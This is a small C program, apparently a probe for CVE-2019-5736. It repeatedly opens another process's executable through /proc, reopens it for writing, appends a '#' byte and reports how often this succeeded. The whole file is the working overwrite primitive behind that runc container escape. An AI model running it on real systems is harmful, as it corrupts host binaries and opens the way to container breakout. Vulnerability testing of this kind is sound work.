/*
 * overwrite PID: tries to write into the program that process PID executes, until PID is gone: CVE-2019-5736. The descriptor that it holds meanwhile
 * keeps that file reachable after the process has executed something else. Says how often it got one, and what became of writing.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) return 64;
  char path[64], link[64];
  snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
  int opened = 0, written = 0;
  for (int fd; (fd = open(path, O_RDONLY)) >= 0; close(fd)) {
    opened++;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    int writable = open(link, O_WRONLY | O_APPEND);
    if (writable < 0) continue;
    if (write(writable, "#", 1) == 1) written++;
    close(writable);
  }
  printf("opened %d written %d last %s\n", opened, written, strerror(errno));
  return 0;
}
